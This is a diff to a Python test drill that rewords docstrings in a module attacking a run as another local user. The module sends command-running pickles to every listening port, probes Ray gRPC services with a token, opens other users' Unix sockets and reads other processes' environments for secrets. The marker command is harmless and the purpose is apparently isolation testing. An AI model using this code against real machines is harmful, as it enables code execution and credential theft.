@@ -1,6 +1,6 @@
-"""Attacks by another user of the same machine on a run: its ports, sockets, files and processes.
+"""Attack a run as another user of the machine: its ports, sockets, files and processes.
 
-Prints a line for everything that works:  python -m tests.drills.stranger UID OWNED [FILE] ...
+Prints a line for every attack that succeeds:  python -m tests.drills.stranger UID OWNED [FILE] ...
 """
 
 from __future__ import annotations
@@ -26,7 +26,7 @@ _NO_GRPC = {grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED, grpc
 
 
 class _Run:
-    """Runs a command in the process that unpickles it."""
+    """Pickle that runs a command in the process that unpickles it."""
 
     def __init__(self, command: str) -> None:
         self.command = command
@@ -36,7 +36,7 @@ class _Run:
 
 
 def ports() -> list[int]:
-    """All TCP ports on which somebody listens here."""
+    """Return all TCP ports with a listener on this machine."""
     found = set()
     for table in ("/proc/net/tcp", "/proc/net/tcp6"):
         for line in Path(table).read_text().splitlines()[1:]:
@@ -47,7 +47,7 @@ def ports() -> list[int]:
 
 
 def send_pickles(port: int, owned: Path) -> None:
-    """In the frames that servers of pickles expect: none, multiprocessing's, ZeroMQ's."""
+    """Send a pickle in each framing that servers of pickles use: none, multiprocessing's, ZeroMQ's."""
     load = pickle.dumps(_Run(f"id -u >> {owned}"))
     zmq = b"\xff\0\0\0\0\0\0\0\x01\x7f\x03\0NULL" + bytes(48)
     frames = (
@@ -64,7 +64,7 @@ def send_pickles(port: int, owned: Path) -> None:
 
 
 def answers_of_ray(port: int, token: str | None) -> Iterator[str]:
-    """The services of Ray that answer here; with its token they do."""
+    """Yield Ray's services that answer at the port; with the token they do."""
     metadata = [("authorization", f"Bearer {token}")] if token else []
     with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
         for method in _METHODS:
@@ -79,7 +79,7 @@ def answers_of_ray(port: int, token: str | None) -> Iterator[str]:
 
 
 def sockets_that_answer() -> Iterator[str]:
-    """Unix sockets of others, by path or abstract."""
+    """Yield other users' Unix sockets that accept a connection, by path or abstract."""
     for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
         path = line.split(maxsplit=7)[7] if len(line.split()) > 7 else ""
         if not path or path.startswith(("/run/", "/var/run/")):
@@ -101,7 +101,7 @@ def files_that_open(files: Sequence[str]) -> Iterator[str]:
 
 
 def secrets_of_processes() -> Iterator[str]:
-    """Environments of others that can be read, and tokens on their command lines."""
+    """Yield other users' processes whose environment can be read or whose command line shows the token."""
     for process in Path("/proc").iterdir():
         if process.name.isdigit() and process.name != str(os.getpid()):
             with suppress(OSError):
@@ -114,21 +114,21 @@ def secrets_of_processes() -> Iterator[str]:
 
 def main(arguments: Sequence[str]) -> None:
     uid, owned, *files = arguments
-    # Once before, at a port where nobody is: what it imports may be out of the other user's reach.
+    # Once before dropping privileges, at an unused port: the other user may not be able to read the imports.
     send_pickles(1, Path(owned))
     assert not list(answers_of_ray(1, None))
     os.chdir("/")
     os.setgroups([])
     os.setgid(int(uid))
     os.setuid(int(uid))
-    there = ports()
-    for port in there:
+    listening = ports()
+    for port in listening:
         send_pickles(port, Path(owned))
         for found in answers_of_ray(port, os.environ.get("STOLEN_TOKEN")):
             print(found)
     for found in (*secrets_of_processes(), *files_that_open(files), *sockets_that_answer()):
         print(found)
-    print(f"tried {len(there)} ports and {len(files)} files")
+    print(f"tried {len(listening)} ports and {len(files)} files")
 
 
 if __name__ == "__main__":
